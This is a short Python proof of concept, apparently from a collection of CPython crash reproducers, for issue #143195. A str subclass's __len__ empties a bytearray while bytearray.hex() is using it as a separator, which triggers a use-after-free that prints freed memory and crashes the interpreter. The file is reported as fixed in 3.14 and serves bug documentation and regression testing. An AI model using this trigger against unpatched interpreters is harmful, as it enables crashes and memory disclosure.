# technique: the length of the separator of hex(), a __len__ of ours, empties the bytearray: what is printed is freed memory
# mended: 3.14
# goal: crash
# source: python/cpython#143195
class Separator(str):
    def __len__(self):
        text.clear()
        return 1


text = bytearray(1 << 25)
text.hex(Separator(':'))
